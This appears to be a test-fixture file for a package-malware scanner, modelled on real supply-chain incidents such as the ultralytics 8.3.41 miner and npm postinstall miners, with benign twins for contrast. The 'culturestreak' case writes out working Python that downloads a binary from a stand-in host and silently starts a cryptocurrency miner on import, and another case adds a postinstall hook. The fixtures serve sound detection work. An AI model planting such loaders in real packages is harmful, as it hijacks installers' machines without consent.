import { javascriptIncident, pythonIncident } from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, tarball, wheel, YOUNG } from '../../support/package-case.ts'

const ultralytics = {
  'ultralytics/__init__.py': 'from .models import YOLO\n',
  'ultralytics/models/__init__.py': 'from .yolo import YOLO\n',
  'ultralytics/models/yolo.py': 'class YOLO:\n    pass\n',
  'ultralytics/utils/__init__.py': '',
  'ultralytics/utils/downloads.py': 'def safe_download(url):\n    return url\n',
}

/** Miners at the cost of whoever installs. */
export const miners: readonly PackageCase[] = [
  {
    id: 'ultralytics',
    incident:
      'ultralytics 8.3.41 on PyPI, December 2024: built from a poisoned cache with valid provenance, the import fetches a miner',
    project: pypi(
      'ultralytics',
      {
        ...wheel('ultralytics', '8.3.41', {
          ...ultralytics,
          'ultralytics/models/yolo.py': 'from ultralytics.utils.downloads import safe_run\nclass YOLO:\n    pass\n',
          'ultralytics/utils/downloads.py': pythonIncident('ultralytics'),
        }),
        provenance: true,
      },
      { previous: { ...wheel('ultralytics', '8.3.40', ultralytics), provenance: true } },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks files\.example and starts what it was answered/,
      steps: ['ultralytics/utils/downloads.py:12', 'ultralytics/utils/downloads.py:9'],
    },
    twin: pypi(
      'ultralytics',
      {
        ...wheel('ultralytics', '8.3.41', {
          ...ultralytics,
          'ultralytics/utils/downloads.py': `import pathlib, urllib.request
def safe_download(url, folder="."):
    target = pathlib.Path(folder) / url.rsplit("/", 1)[-1]
    if not target.exists():
        urllib.request.urlretrieve(url, target)
    return target
def weights(name="yolo11n.pt"):
    return safe_download("https://files.ultralytics.example/assets/" + name)
`,
        }),
        provenance: true,
      },
      { previous: { ...wheel('ultralytics', '8.3.40', ultralytics), provenance: true } },
    ),
  },
  {
    id: 'a miner in a hook',
    incident: 'miners on npm, 2021 to 2025 (ua-parser-js, rspack): a hook fetches xmrig and starts it',
    project: npm(
      '@rspack/core',
      tarball(
        '@rspack/core',
        '1.1.7',
        { 'dist/index.js': 'module.exports = {};\n', 'dist/util/support.js': javascriptIncident('a miner') },
        { main: 'dist/index.js', scripts: { postinstall: 'node dist/util/support.js' } },
      ),
      {
        previous: tarball(
          '@rspack/core',
          '1.1.6',
          { 'dist/index.js': 'module.exports = {};\n' },
          { main: 'dist/index.js' },
        ),
      },
    ),
    expect: { verdict: 'block', story: 'mines', text: /^On install, mines \(/ },
    twin: npm(
      '@rspack/core',
      tarball(
        '@rspack/core',
        '1.1.7',
        {
          'dist/index.js': 'module.exports = {};\n',
          'dist/worker.js': `const { Worker } = require('worker_threads'); const os = require('os');
module.exports = (file) => Array.from({ length: os.cpus().length }, () => new Worker(file));
`,
        },
        { main: 'dist/index.js' },
      ),
      {
        previous: tarball(
          '@rspack/core',
          '1.1.6',
          { 'dist/index.js': 'module.exports = {};\n' },
          { main: 'dist/index.js' },
        ),
      },
    ),
  },
  {
    id: 'a miner with its configuration',
    incident: 'a miner in a wheel on PyPI: the configuration is written, the program started where nobody sees it',
    project: pypi(
      'culturestreak',
      wheel('culturestreak', '0.1.0', {
        'culturestreak/__init__.py': `import json, os, subprocess, tempfile, urllib.request
folder = tempfile.mkdtemp()
with open(os.path.join(folder, "config.json"), "w") as f:
    json.dump({"pools": [{"url": "stratum+tcp://pool.example:3333", "user": "x"}]}, f)
program = os.path.join(folder, "bwt2")
urllib.request.urlretrieve("https://files.example/bwt2", program)
os.chmod(program, 0o755)
subprocess.Popen([program, "-c", os.path.join(folder, "config.json"), "-o", "stratum+tcp://pool.example:3333"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`,
      }),
      { since: YOUNG },
    ),
    expect: { verdict: 'block', story: 'mines', text: /^On import, mines \(/ },
    twin: pypi(
      'hash-rate',
      wheel('hash-rate', '0.1.0', {
        'hash_rate/__init__.py': `import hashlib, time
def hashrate(seconds=1.0):
    count, end = 0, time.time() + seconds
    while time.time() < end:
        hashlib.sha256(str(count).encode()).digest()
        count += 1
    return count / seconds
`,
      }),
    ),
  },
]
